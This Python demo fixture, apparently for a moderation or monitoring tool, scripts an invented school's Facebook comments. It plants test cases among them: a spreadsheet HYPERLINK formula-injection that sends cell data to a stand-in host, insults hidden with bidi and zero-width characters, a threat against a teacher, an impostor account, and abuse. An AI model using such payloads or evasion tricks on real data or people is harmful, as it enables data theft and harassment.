"""Oakfield Primary School's fortnight on Facebook. School, people and words are invented."""

from __future__ import annotations

from datetime import datetime

from monitor.demo.oakfield_facebook_recent import tell_recent
from monitor.demo.oakfield_people import (
    BEV,
    CARL,
    DANUTA,
    DEAN,
    GARETH,
    HANNAH,
    IMPOSTOR,
    JOSIE,
    KEV,
    LIAM,
    MO,
    NIA,
    PAGE,
    PRIYA,
    RUTH,
    SANDRA,
    TOM,
    WIN,
)
from monitor.demo.story import Chronicle, Days, later
from monitor.demo.world import World


def facebook(days: Days) -> World:
    """The page and everything said there."""
    tell = Chronicle(World(PAGE), _post_id, _comment_id)
    _photo_day(tell, days)
    _dinners(tell, days)
    _museum(tell, days)
    _parking(tell, days)
    _quiz_night(tell, days)
    tell_recent(tell, days)
    return tell.world


def _post_id(number: int, _at: datetime) -> str:
    return f"{PAGE.id}_{2000 + number}"


def _comment_id(number: int, _at: datetime, post_id: str | None) -> str:
    return f"{(post_id or _post_id(0, _at)).split('_')[1]}_{9000 + number}"


def _photo_day(tell: Chronicle, days: Days) -> None:
    post = tell.post(
        "Individual and family photographs are being taken this week. Order forms come home in book bags.",
        days.school_day(10, "08:45"),
    )
    first = tell.says(PRIYA, "Can siblings be in one picture again this year?", days.school_day(10, "10:12"), post)
    tell.answers(first, "Yes, please bring them to the hall together before nine.", later(first.at, minutes=53))
    slow = tell.says(
        GARETH,
        "The proofs took nine weeks last time. Could someone chase the photographer a bit sooner, please?",
        days.school_day(10, "13:30"),
        post,
    )
    tell.answers(slow, "Fair point. We have asked for a date in writing this time.", later(slow.at, hours=1.6))
    ignored = tell.says(
        BEV,
        "I've e-mailed the office twice about my order and nobody has replied. Not good enough.",
        days.weekday_before("Tue", "10:00", weeks=1),
        post,
    )
    tell.answers(
        ignored,
        "We are sorry, Bev. It went to the wrong inbox; you have an answer now.",
        later(ignored.at, hours=49),
    )
    nursery = tell.says(
        MO, "Does that include nursery, or just Reception upwards?", days.weekend("Sat", "12:00", weeks=1), post
    )
    tell.answers(
        nursery, "Nursery too, Mo. Their turn is straight after register.", days.monday_after("08:40", weeks=1)
    )
    thanks = tell.says(
        NIA,
        "Diolch i bawb yn y swyddfa! Roedd y plant wrth eu bodd, ac mae'r lluniau'n werth eu gweld.",
        days.school_day(9, "15:20"),
        post,
    )
    tell.answers(thanks, "Diolch, Nia! That made our day.", later(thanks.at, minutes=25))


def _dinners(tell: Chronicle, days: Days) -> None:
    post = tell.post(
        "The new dinner menu starts today. Have a look and tell us what you think.", days.school_day(9, "12:05")
    )
    praise = tell.says(
        TOM, "Mine had seconds of the pasta. Please thank the kitchen from us!", days.school_day(9, "16:45"), post
    )
    tell.answers(praise, "We've passed it on. They are beaming.", later(praise.at, minutes=20))
    milk = tell.says(
        DANUTA,
        "Dzień dobry, czy będzie coś bez laktozy? Córka źle się czuje po zwykłym mleku.",
        days.school_day(9, "17:10"),
        post,
    )
    tell.answers(
        milk, "Dzień dobry! Yes, there's an oat option every day. Ask at the hatch.", later(milk.at, hours=1)
    )
    tell.says(
        CARL,
        "Nearly three quid a day for a bread roll and half a sausage? My lad came home starving. It's a rip-off "
        "and I want to know who signed it off.",
        days.school_day(9, "20:05"),
        post,
    )
    early = tell.says(HANNAH, "Is the fish still on the menu at all?", days.school_day(8, "09:10"), post)
    again = tell.says(HANNAH, "Sorry, also: who do I tell about a nut allergy?", days.school_day(8, "11:45"), post)
    tell.answers(
        again,
        "Hi Hannah: fish every week, and please ring the office today about the allergy.",
        later(early.at, hours=3.5),
    )
    tell.says(KEV, "Portions are absolute crap and you bloody well know it.", days.school_day(8, "12:50"), post)
    tell.says(
        KEV,
        "Whoever dreamt up this menu is a complete idiot.",
        days.school_day(8, "13:05"),
        post,
        hidden_at=days.school_day(8, "17:00"),
    )
    tell.says(
        WIN,
        '=HYPERLINK("http://dinner-refund.invalid/?p="&A1,"Claim your refund")',
        days.school_day(8, "17:30"),
        post,
    )


def _museum(tell: Chronicle, days: Days) -> None:
    post = tell.post(
        "Year 4 spent the day with the mummies at the museum. More pictures to follow!", days.school_day(8, "15:40")
    )
    lovely = tell.says(
        JOSIE, "What a day they had. Well done to all the staff who went along.", days.school_day(8, "16:20"), post
    )
    tell.answers(lovely, "Thank you, Josie. They were a credit to you all.", later(lovely.at, minutes=40))
    agreed = tell.says(
        RUTH, "Hear, hear. Ours hasn't stopped talking since he got in.", later(lovely.at, minutes=55), lovely
    )
    tell.says(
        TOM, "Same here. We've had every bandage out of the first-aid box 😂", later(agreed.at, minutes=30), agreed
    )
    album = tell.says(PRIYA, "When's the rest of the album going up?", days.school_day(7, "09:25"), post)
    tell.answers(album, "By the end of today, once permissions are checked.", later(album.at, hours=1.2))
    tell.says(None, "Which coach firm was that? Ours is looking for one.", days.school_day(7, "12:10"), post)
    tell.says(NIA, "", days.school_day(7, "18:31"), post)
    tell.says(JOSIE, "👏👏👏🦴", days.school_day(7, "19:02"), post)


def _parking(tell: Chronicle, days: Days) -> None:
    post = tell.post(
        "Please keep the zigzags and our neighbours' drives clear at drop-off and pick-up.",
        days.school_day(7, "08:55"),
    )
    civil = tell.says(
        RUTH,
        "With respect, we've been told this every term and nothing changes. Could somebody stand out there?",
        days.school_day(7, "09:30"),
        post,
    )
    tell.answers(civil, "We'll be at the gate both ends of the day from tomorrow, Ruth.", later(civil.at, hours=3))
    tell.says(DEAN, "Pathetic. Useless bunch of clowns, the lot of you.", days.school_day(6, "18:15"), post)
    tell.says(
        DEAN,
        "So you wrote down my number plate, Mrs Ellerwick. I know where you park. You'd better watch your back.",
        days.school_day(6, "20:47"),
        post,
    )
    blocked = tell.says(
        SANDRA,
        "I was boxed in for forty minutes this morning and nobody came out to help. I'd like to complain properly, "
        "who do I write to?",
        days.school_day(5, "08:50"),
        post,
    )
    tell.says(
        IMPOSTOR, "We do not deal with complaints on here. Stop posting.", later(blocked.at, hours=1.5), blocked
    )
    tell.says(
        LIAM,
        "\u202esloof fo hcnub\u202c You're all i\u200bd\u200bi\u200bo\u200bt\u200bs and everyone knows.",
        days.school_day(4, "18:40"),
        post,
    )


def _quiz_night(tell: Chronicle, days: Days) -> None:
    post = tell.post("PTA quiz night is back! Tables of eight, bring your own nibbles.", days.school_day(6, "10:15"))
    tell.says(
        CARL,
        "Is Mrs Ellerwick on the door again? After last time I won't be the only one staying at home.",
        days.school_day(6, "11:40"),
        post,
        deleted_at=days.school_day(6, "15:05"),
    )
    table = tell.says(HANNAH, "A table for the Quillbys and friends, please!", days.school_day(6, "13:10"), post)
    tell.answers(table, "You're down for table six.", later(table.at, minutes=50))
    price = tell.says(MO, "How much are tickets, and can we pay on the night?", days.school_day(5, "09:35"), post)
    tell.answers(price, "£4, cash only.", later(price.at, hours=1.3), deleted_at=days.school_day(5, "17:20"))
    evening = days.school_day(4, "11:15")
    tell.says(
        BEV,
        "Looking forward to this one!",
        evening,
        post,
        edits=(
            (later(evening, hours=2.5), "Was looking forward to this. The organisers are a bunch of stupid cows."),
        ),
    )
